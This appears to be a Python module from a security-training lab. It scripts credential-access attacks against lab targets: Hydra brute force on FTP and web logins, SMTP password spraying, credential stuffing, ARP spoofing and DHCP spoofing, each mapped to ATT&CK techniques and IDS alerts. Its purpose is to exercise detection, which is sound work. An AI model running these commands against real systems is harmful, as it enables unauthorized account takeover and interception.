"""Guessing and reusing passwords, and standing between people."""

from __future__ import annotations

import json
from collections.abc import Iterable

from labs.scenario import Stage
from labs.services.chats import SPRAYED, encoded
from labs.services.files import GUESSED, LEAKED
from labs.services.web_b import GUESSED as WEB_GUESSED

from .base import Exchange, Pace, Receipt, Red, Tool
from .kit import CREDENTIAL_ACCESS, CURL, exchange, literal, number, receipt
from .means_b_kit import HPING, HYDRA, UDP, Command, Scripted, Single, by_hand, converse, guesses, word_list

MOST_GUESSES = 80
HYDRA_S = 20.0
NAMES = ("a.berg", "c.dorn", "e.falk", "g.hahn", "i.jung", "m.noll", "o.pohl", "q.rau", "s.thal", "u.veit", "w.zorn")
REUSED = "Summer2025"


def hydra(stage: Stage, port: int, module: str, *options: str) -> Command:
    """Hydra against the target, four connections side by side."""
    tasks = str(number(stage, "tasks", 4, 8))
    argv = ["hydra", "-I", "-f", "-t", tasks, "-w", "2", *options, "-s", str(port), str(stage.target)]
    return Command([*argv, *module.split()], HYDRA_S)


class FtpBruteForce(Scripted):
    """One name, many passwords; with the right one the account's page is read."""

    id = "ftp-brute-force"
    paces = (Pace("tasks", 4, 1),)
    about = "hydra guesses an FTP password"
    tactic = CREDENTIAL_ACCESS
    technique = "T1110.001"
    service_kinds = ("ftp",)
    tools = (HYDRA, CURL)
    countered_by = ("disable_account", "close_port", "stop_process")
    port = 21
    sid, classification = 9002006, "attempted-admin"
    alerts = 4

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """At most `MOST_GUESSES` passwords, then one login."""
        name, right = GUESSED
        words = word_list(red, "ftp-words", guesses(stage, right, number(stage, "attempts", 40, MOST_GUESSES)))
        yield hydra(stage, self.at(stage), "ftp", "-l", name, "-P", words)
        yield ftp_page(stage, self.at(stage), name, right)


class HttpBruteForce(Scripted):
    """One name, many passwords, for a page behind basic authentication."""

    id = "http-brute-force"
    paces = (Pace("tasks", 4, 1),)
    about = "hydra guesses the password of a web page"
    tactic = CREDENTIAL_ACCESS
    technique = "T1110.001"
    service_kinds = ("http",)
    tools = (HYDRA, CURL)
    countered_by = ("close_port", "stop_process")  # the page's account, not the host's
    port = 80
    sid, classification, app = 9002007, "attempted-admin", "http"
    alerts = 4

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """At most `MOST_GUESSES` passwords, then one visit."""
        name, right = WEB_GUESSED
        words = word_list(red, "web-words", guesses(stage, right, number(stage, "attempts", 40, MOST_GUESSES)))
        yield hydra(stage, self.at(stage), "http-get /private", "-l", name, "-P", words)
        url = f"http://{literal(stage.target)}:{self.at(stage)}/private"
        yield Command(["curl", "-sS", "--max-time", "3", "-u", f"{name}:{right}", url])


class PasswordSpray(Scripted):
    """One password, many names."""

    id = "password-spray"
    paces = (Pace("tasks", 4, 1),)
    about = "hydra tries one password on every mailbox"
    tactic = CREDENTIAL_ACCESS
    technique = "T1110.003"
    service_kinds = ("smtp",)
    tools = (HYDRA,)
    countered_by = ("disable_account", "close_port", "stop_process")
    port = 25
    sid, classification, app = 9002008, "attempted-admin", "smtp"
    alerts = 2

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """A dozen names, then one login."""
        name, password = SPRAYED
        names = word_list(red, "names", (*NAMES, name))
        yield hydra(stage, self.at(stage), "smtp LOGIN", "-L", names, "-p", password)
        says = ["EHLO desk\r\n", "AUTH LOGIN\r\n", f"{encoded(name)}\r\n", f"{encoded(password)}\r\n", "QUIT\r\n"]
        yield converse(stage, self.at(stage), [says], hello=True)


class CredentialStuffing(Scripted):
    """Pairs of name and password from somebody else's leak."""

    id = "credential-stuffing"
    paces = (Pace("tasks", 4, 1),)
    about = "hydra tries leaked pairs of name and password on an FTP server"
    tactic = CREDENTIAL_ACCESS
    technique = "T1110.004"
    service_kinds = ("ftp",)
    tools = (HYDRA, CURL)
    countered_by = ("disable_account", "close_port", "stop_process")
    port = 21
    sid, classification = 9002006, "attempted-admin"
    alerts = 5

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """Some thirty pairs, then one login."""
        pairs = [f"{name}:{REUSED}{n}" for n in range(3) for name in NAMES]
        combined = word_list(red, "pairs", [*pairs, ":".join(LEAKED)])
        yield hydra(stage, self.at(stage), "ftp", "-C", combined)
        yield ftp_page(stage, self.at(stage), *LEAKED)


class ArpSpoof(Single):
    """Tells a host of its own segment that it is the gateway. Seen to succeed when the host's packets arrive here."""

    id = "arp-spoof"
    about = "arpspoof poses as the gateway of a switched zone"
    tactic = CREDENTIAL_ACCESS
    technique = "T1557.002"
    tools = (Tool(program="arpspoof", package="dsniff"), HPING)
    countered_by = ()
    port = None
    sid, classification, app, handshake = 9009001, "misc-attack", "arp", False  # of the second sensor, arpwatch
    alerts = 4

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """None that a gateway forwards."""
        return ()

    def run(self, red: Red, stage: Stage) -> Receipt:
        """Five seconds between host and gateway, ten at most."""
        started = red.clock_s()
        command = by_hand("between", str(stage.target), str(number(stage, "seconds", 5, 10)), timeout_s=25)
        done = red.run(command.argv, timeout_s=command.timeout_s, stdin=command.stdin)
        try:
            caught = int(json.loads(done.stdout)["caught"])
        except ValueError:
            caught = 0
        return receipt(red, stage, started, measured=caught > 0, detail=done.stdout or done.stderr)


class DhcpSpoof(Scripted):
    """An offer from a server that is none."""

    id = "dhcp-spoof"
    about = "A host is offered an address, gateway and name server by a stranger"
    tactic = CREDENTIAL_ACCESS
    technique = "T1557.003"
    service_kinds = ("dhcp",)
    countered_by = ("stop_process", "close_port")
    port = 68
    transport = UDP
    sid, classification, app, handshake = 9002009, "misc-attack", "dhcp", False
    alerts = 5

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """The offer, and the request it provokes."""
        return (exchange(stage, self.at(stage), protocol=UDP),)

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """At most five offers."""
        yield by_hand("offer", str(red.address()), str(stage.target), "5")


def ftp_page(stage: Stage, port: int, name: str, password: str) -> Command:
    """Read what the account holds."""
    url = f"ftp://{literal(stage.target)}:{port}/page"
    return Command(["curl", "-sS", "--connect-timeout", "2", "--max-time", "4", "-u", f"{name}:{password}", url])
